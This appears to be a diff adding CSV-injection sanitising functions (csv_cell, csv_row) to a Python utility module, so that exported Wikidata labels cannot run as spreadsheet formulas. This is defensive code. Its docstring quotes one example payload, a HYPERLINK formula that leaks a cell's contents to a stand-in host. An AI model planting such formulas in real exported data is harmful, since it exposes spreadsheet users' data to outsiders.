@@ -68,4 +68,25 @@ def _escape(m: re.Match) -> str:
     return f"\\x{ord(c):02x}" if ord(c) < 0x100 else f"\\u{ord(c):04x}"
 
 
-__all__ = ["strip_credentials", "printable", "REDACTED"]
+# what a spreadsheet reads as the start of a formula (OWASP, "CSV Injection"); a cell that is a
+# plain number ("-5", "+1.5e3") is no formula and stays as it is
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_NUMBER = re.compile(r"[-+]?(?:\d+\.?\d*|\.\d+)(?:[eE][-+]?\d+)?")
+
+
+def csv_cell(value):
+    """A CSV cell that no spreadsheet evaluates: text starting with ``= + - @``, a tab or a
+    carriage return gets a leading ``'`` (OWASP's advice for CSV injection: Wikidata labels
+    are editable by anyone, and ``=HYPERLINK("http://x/?leak="&A1)`` in a label would
+    otherwise be a live formula); anything else, numbers included, is returned unchanged."""
+    if isinstance(value, str) and value.startswith(_FORMULA_START) and not _NUMBER.fullmatch(value):
+        return "'" + value
+    return value
+
+
+def csv_row(cells) -> list:
+    """:func:`csv_cell` of each cell."""
+    return [csv_cell(c) for c in cells]
+
+
+__all__ = ["strip_credentials", "printable", "csv_cell", "csv_row", "REDACTED"]
